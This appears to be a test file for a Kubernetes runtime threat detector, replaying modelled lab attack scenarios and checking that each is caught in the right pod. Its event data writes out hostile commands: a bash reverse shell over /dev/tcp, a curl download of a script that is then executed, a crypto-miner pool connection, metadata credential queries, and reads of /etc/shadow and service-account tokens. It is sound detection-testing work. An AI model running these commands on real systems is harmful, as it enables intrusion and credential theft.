/**
 * The lab's attack scenarios (e2e/scenarios/<name>/run.sh + label.json), as the events their
 * scripts produce under the agent: each must be detected in its pod with its label's technique,
 * and the explanation must name the pod. The same judgement runs on real lab captures in
 * e2e/eval (when the lab and the capture agent can run); this keeps it checked everywhere.
 */
import { readdirSync, readFileSync, existsSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createDetector } from './index';
import { inventoryFor, merge, Script } from './testkit';

const SCENARIOS = resolve(__dirname, '../../e2e/scenarios');
const EXT = '203.0.113.10';

/** kubectl exec … sh -s (the lab's exec path): a shell from outside the container, pid 200. */
function execd(s: Script): Script {
  return s.exec(200, '/bin/sh', ['sh', '-s']);
}

const BUILD: Record<string, (s: Script) => unknown> = {
  'interactive-shell': (s) =>
    execd(s)
      .exec(210, '/usr/bin/id', ['id'], 200)
      .exec(211, '/bin/uname', ['uname', '-a'], 200)
      .exec(212, '/bin/ps', ['ps', '-ef'], 200),
  'cloud-metadata': (s) =>
    execd(s)
      .exec(210, '/usr/bin/curl', ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/'], 200)
      .connect(210, '169.254.169.254', 80),
  'crypto-miner': (s) =>
    execd(s)
      .exec(205, '/bin/cp', ['cp', '/usr/bin/perl', '/tmp/.lab/xmrig'], 200)
      .open(205, '/tmp/.lab/xmrig', true)
      .exec(210, '/tmp/.lab/xmrig', ['xmrig', '-o', `stratum+tcp://${EXT}:3333`], 200)
      .connect(210, EXT, 3333),
  'download-exec-tmp': (s) =>
    execd(s)
      .exec(210, '/usr/bin/curl', ['curl', '-s', '-o', '/tmp/lab-dl.sh', `http://${EXT}/x.sh`], 200)
      .connect(210, EXT, 80)
      .open(210, '/tmp/lab-dl.sh', true)
      .exec(211, '/bin/chmod', ['chmod', '+x', '/tmp/lab-dl.sh'], 200)
      .exec(212, '/tmp/lab-dl.sh', ['/tmp/lab-dl.sh'], 200),
  'exec-dev-shm': (s) =>
    execd(s)
      .exec(210, '/bin/cp', ['cp', '/bin/echo', '/dev/shm/lab-x'], 200)
      .open(210, '/dev/shm/lab-x', true)
      .exec(211, '/dev/shm/lab-x', ['/dev/shm/lab-x', 'hi'], 200),
  'kernel-module': (s) =>
    execd(s)
      .exec(210, '/usr/bin/perl', ['perl', '-e', 'syscall(313, ...)'], 200)
      .module(210, '', 'finit_module')
      .module(210, '', 'init_module')
      .module(210, 'nope', 'delete_module'),
  'memfd-exec': (s) =>
    execd(s)
      .exec(210, '/usr/bin/perl', ['perl', '-e', '...'], 200)
      .memfd(210, 'lab')
      .exec(210, '/proc/self/fd/3', ['kworker/u8:2', 'fileless execution from memfd']),
  'mount-unshare-setns': (s) =>
    execd(s)
      .exec(210, '/bin/mount', ['mount', '-t', 'tmpfs', 'none', '/mnt'], 200)
      .mount(210, 'none', '/mnt', 'tmpfs')
      .exec(211, '/usr/bin/unshare', ['unshare', '-Urm', 'true'], 200)
      .ns(211, 'unshare')
      .exec(212, '/usr/bin/nsenter', ['nsenter', '-t', '1', '-m', 'true'], 200)
      .ns(212, 'setns'),
  'network-scan': (s) => {
    execd(s).exec(210, '/usr/bin/perl', ['perl', '-e', 'use IO::Socket::INET; ...'], 200);
    for (let h = 1; h <= 30; h++)
      for (const p of [22, 80, 443, 5432, 6443, 8080]) s.connect(210, `10.244.0.${h}`, p).wait(0.01);
  },
  'package-manager': (s) =>
    execd(s)
      .exec(210, '/usr/bin/apt-get', ['apt-get', '-s', 'install', 'nmap'], 200)
      .exec(211, '/usr/bin/dpkg', ['dpkg', '-l'], 200)
      .open(211, '/var/lib/dpkg/status'),
  'ptrace-attach': (s) =>
    execd(s)
      .exec(205, '/bin/sleep', ['sleep', '30'], 200)
      .exec(210, '/usr/bin/perl', ['perl', '-e', 'syscall(101, 16, ...)'], 200)
      .ptrace(210, 16, 205)
      .exec(211, '/usr/bin/strace', ['strace', '-p', '205'], 200)
      .ptrace(211, 0x4206, 205),
  'read-shadow': (s) =>
    execd(s).exec(210, '/bin/cat', ['cat', '/etc/shadow'], 200).open(210, '/etc/shadow').open(210, '/etc/gshadow'),
  'reverse-shell': (s) =>
    execd(s)
      .exec(
        210,
        '/usr/bin/timeout',
        ['timeout', '10', 'bash', '-c', 'bash -i >& /dev/tcp/$LAB_EXTERNAL_IP/4444 0>&1'],
        200,
      )
      .exec(211, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/$LAB_EXTERNAL_IP/4444 0>&1'], 210)
      .connect(211, EXT, 4444)
      .exec(212, '/bin/bash', ['bash', '-i'], 211)
      .exec(213, '/usr/bin/id', ['id'], 212),
  'sa-token-api': (s) =>
    execd(s)
      .exec(210, '/bin/cat', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], 200)
      .open(210, '/var/run/secrets/kubernetes.io/serviceaccount/token')
      .exec(
        211,
        '/usr/bin/curl',
        ['curl', '-s', '-H', 'Authorization: Bearer ey…', 'https://10.96.0.1:443/api/v1/namespaces/ops/pods'],
        200,
      )
      .connect(211, '10.96.0.1', 443),
  'write-below-bin': (s) =>
    execd(s)
      .open(200, '/usr/local/bin/lab-implant-77', true)
      .exec(210, '/bin/chmod', ['chmod', '+x', '/usr/local/bin/lab-implant-77'], 200)
      .exec(211, '/usr/local/bin/lab-implant-77', ['/usr/local/bin/lab-implant-77'], 200),
  'write-below-etc': (s) =>
    execd(s)
      .open(200, '/etc/lab-persist-77.conf', true)
      .exec(210, '/bin/rm', ['rm', '-f', '/etc/lab-persist-77.conf'], 200),
};

interface Label {
  pod: string;
  technique: string;
}

const names = existsSync(SCENARIOS)
  ? readdirSync(SCENARIOS).filter((d) => existsSync(join(SCENARIOS, d, 'label.json')))
  : [];

describe('lab scenarios, as their scripts behave', () => {
  it('every lab scenario has a behaviour model here', () => {
    for (const n of names) expect(BUILD[n], `no model of scenario ${n}`).toBeDefined();
  });

  for (const name of names) {
    it(`${name}: detected in its pod with its technique, explained in words`, () => {
      const label = JSON.parse(readFileSync(join(SCENARIOS, name, 'label.json'), 'utf8')) as Label;
      const [ns, , wl] = label.pod.split('/') as [string, string, string];
      // The attacked pod, and two replicas of it that stay benign (peer groups are on too).
      const victim = new Script({ name: `${wl}-7d9f-a1`, namespace: ns, workload: wl, sa: wl });
      const peers = [2, 3].map((i) => new Script({ name: `${wl}-7d9f-a${i}`, namespace: ns, workload: wl, sa: wl }));
      for (const p of [victim, ...peers]) {
        p.running(100, '/usr/local/bin/node', ['node', `/lab/${wl}.mjs`]).listen(100, 8080);
        for (let i = 0; i < 20; i++) p.wait(1).open(100, '/lab/data/page.html');
      }
      victim.wait(1);
      BUILD[name]!(victim);
      const inv = inventoryFor([victim, ...peers], {
        bindings: [
          {
            kind: 'RoleBinding',
            name: 'ops-controller',
            namespace: 'ops',
            roleRef: { kind: 'Role', name: 'ops-controller' },
            subjects: [{ kind: 'ServiceAccount', name: 'ops-controller', namespace: 'ops' }],
          },
        ],
      });
      const d = createDetector({ inventory: inv });
      d.ingest(merge(victim, ...peers), 0);
      d.finish();
      const mine = d.findings().filter((f) => f.pod?.name === victim.podRef!.name && f.severity !== 'info');
      const right = mine.filter(
        (f) => f.technique === label.technique || f.technique.startsWith(`${label.technique}.`),
      );
      expect(
        right.map((f) => f.ruleId),
        `${name}: found ${mine.map((f) => `${f.ruleId}/${f.technique}`).join(', ')}`,
      ).not.toEqual([]);
      for (const f of right) expect(f.explanation).toContain(victim.podRef!.name);
      // Nothing is blamed on the benign replicas.
      expect(d.findings().filter((f) => f.pod && f.pod.name !== victim.podRef!.name && f.severity !== 'info')).toEqual(
        [],
      );
    });
  }
});
